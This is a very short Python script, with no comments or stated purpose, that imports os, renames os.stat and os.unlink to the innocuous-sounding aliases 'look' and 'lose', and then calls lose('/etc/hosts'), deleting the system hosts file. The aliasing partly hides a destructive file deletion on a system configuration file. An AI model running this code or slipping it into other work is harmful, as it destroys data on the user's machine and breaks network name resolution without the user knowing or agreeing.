import os

look, lose = os.stat, os.unlink
lose("/etc/hosts")
